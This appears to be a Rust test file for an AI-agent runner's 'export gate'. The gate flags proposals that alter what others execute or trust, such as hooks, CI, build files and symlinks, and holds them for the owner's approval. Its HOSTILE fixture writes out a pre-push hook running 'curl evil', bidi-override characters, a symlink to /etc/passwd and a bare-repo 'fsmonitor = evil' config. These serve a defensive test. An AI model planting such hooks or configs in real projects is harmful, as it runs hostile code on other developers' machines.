//! The export gate: what a proposal would have others execute or trust is seen first, and decided upon.

use std::os::unix::fs::DirBuilderExt as _;

use crate::world::{MEND, World};

const RUN: [&str; 4] = ["run", "Make the check pass", "--done", "sh check.sh"];
const YES: [&str; 5] = ["run", "Make the check pass", "--done", "sh check.sh", "--yes"];

/// A model that mends the sum, and plants what others would run or be deceived by.
fn plants(command: &str) -> String {
    let then =
        format!("[[turn]]\n[[turn.call]]\nname = \"shell\"\ninput = {{ command = '''{command}''' }}\n\n");
    MEND.replace(
        "[[turn]]\ntext = \"The sum is right now.\"",
        &format!("{then}[[turn]]\ntext = \"The sum is right now.\""),
    )
}

/// The owner's own file, in a home that is the owner's alone.
pub(crate) fn write_rules(world: &World, rules: &str) {
    std::fs::DirBuilder::new().mode(0o700).create(world.home()).unwrap();
    std::fs::write(world.home().join("config.toml"), rules).unwrap();
}

const HOSTILE: &str = r"mkdir -p .husky .github/workflows docs &&
printf '#!/bin/sh\ncurl evil\n' > .husky/pre-push && chmod +x .husky/pre-push &&
echo 'on: push' > .github/workflows/ci.yml &&
printf 'if admin { \342\200\256 } \342\201\246 {\n' > docs/check.txt &&
ln -s /etc/passwd docs/users &&
mv check.sh Check.sh && cp Check.sh check.sh &&
mkdir -p bare/objects bare/refs/heads && echo 'ref: refs/heads/main' > bare/HEAD &&
touch bare/objects/keep bare/refs/heads/main && printf '[core]\n\tfsmonitor = evil\n' > bare/config";

#[test]
fn what_others_would_execute_is_shown_before_the_diff_and_merged_once_approved() {
    let world = World::new(&plants(HOSTILE));
    let said = world.ask(&RUN);
    assert_eq!(said.code, Some(3), "{said:?}");
    let at = |text: &str| said.err.find(text).unwrap_or_else(|| panic!("{text} is not in {}", said.err));
    let first = at("changes to what others execute or trust");
    let kinds = ["hidden_text", "name", "repository", "link_out", "hook", "ci"];
    let kinds = kinds.map(|kind| {
        at(&format!(
            "
    {kind} "
        ))
    });
    assert!(kinds.is_sorted(), "{kinds:?}: {}", said.err);
    let diff = at("files changed, +");
    assert!(
        first < kinds[0] && kinds[5] < diff && diff < at("Merge this proposal into main?"),
        "{}",
        said.err
    );
    for text in [
        "docs/check.txt:1",
        "line 1: U+202E U+2066",
        "collides with Check.sh",
        "to /etc/passwd",
        ".husky/pre-push:1  added",
        ".github/workflows/ci.yml:1",
        "rule     a merge needs the owner's approval, and it changes what others execute or trust",
    ] {
        at(text);
    }
    assert!(!said.err.contains('\u{202e}'), "nothing of it reaches the terminal");

    let gate = world.ask(&["gate", "list", "--json"]).json()[0].clone();
    let found = gate["request"]["export"].clone();
    assert_eq!(found, gate["export"], "what is shown is what the gate is bound to");
    let paths: Vec<_> =
        found["findings"].as_array().unwrap().iter().map(|one| one["path"].as_str().unwrap()).collect();
    for path in ["docs/check.txt", "bare", "docs/users", ".husky/pre-push", ".github/workflows/ci.yml"] {
        assert!(paths.contains(&path), "{path}: {paths:?}");
    }
    let name = gate["gate"].as_str().unwrap();
    let shown = world.ask(&["gate", "show", name]);
    assert!(shown.out.trim_start().starts_with('!'), "{}", shown.out);
    assert!(shown.out.contains("link_out") && shown.out.contains("bare"), "{}", shown.out);

    assert_eq!(world.ask(&["gate", "approve", name]).code, Some(0));
    let ended = world.ended(gate["run"].as_str().unwrap());
    assert_eq!(ended.end, "done", "{ended:?}");
    world.is_whole();
}

#[test]
fn an_approval_in_advance_does_not_cover_it() {
    let world = World::new(&plants("echo all: > Makefile"));
    let said = world.ask(&YES);
    assert_eq!(said.code, Some(3), "{said:?}");
    assert!(
        said.err
            .contains("--yes does not cover this: it changes what others execute or trust: Makefile (build)"),
        "{}",
        said.err
    );
    let gate = world.ask(&["gate", "list", "--json"]).json()[0]["gate"].as_str().unwrap().to_owned();
    assert_eq!(world.ask(&["gate", "refuse", &gate]).code, Some(0));
    assert_eq!(world.ended("last").end, "partial");
    assert!(!world.project().join("Makefile").exists());
    world.is_whole();
}

#[test]
fn what_the_owner_allows_passes_with_an_approval_in_advance() {
    let world = World::new(&plants(
        "echo all: > Makefile && mkdir scripts && echo a > scripts/a && chmod +x scripts/a",
    ));
    write_rules(&world, "[export]\nallow = [\"build\", \"scripts/\"]\n");
    let said = world.ask(&YES);
    assert_eq!(said.code, Some(0), "{said:?}");
    assert!(world.project().join("Makefile").exists());
    let allowed = world.events("last");
    let merge = allowed.iter().find(|event| event["fact"]["tool"] == "merge").unwrap();
    assert_eq!(merge["content"]["export"]["findings"][0]["standing"], "allowed", "{merge}");
    world.is_whole();
}

#[test]
fn what_the_owner_denies_is_not_merged_and_the_branch_is_kept() {
    let world =
        World::new(&plants("mkdir -p .github/workflows && echo 'on: push' > .github/workflows/ci.yml"));
    let rules = "[export]\nallow = [\"ci\"]\ndeny = [\".github/\"]\n";
    write_rules(&world, rules);
    let said = world.ask(&YES);
    assert_eq!(said.code, Some(4), "{said:?}");
    let ended = world.ended("last");
    assert_eq!(ended.end, "partial", "{ended:?}");
    assert!(ended.reason.contains("denies .github/workflows/ci.yml (ci) (export.denied)"), "{ended:?}");
    assert!(ended.reason.contains("keeps the work at"), "{ended:?}");
    assert!(!world.project().join(".github").exists());
    let diff = world.ask(&["diff", "last"]);
    assert!(diff.out.contains("on: push"), "{}", diff.out);
    world.is_whole();
}

#[test]
fn a_repository_loosens_nothing() {
    let world = World::new(&plants("echo all: > Makefile"));
    std::fs::write(world.project().join("regie.toml"), "[export]\nallow = [\"build\"]\n").unwrap();
    let said = world.ask(&YES);
    assert_eq!(said.code, Some(2), "{said:?}");
    assert!(said.err.contains("`export.allow` does not belong here"), "{}", said.err);
}
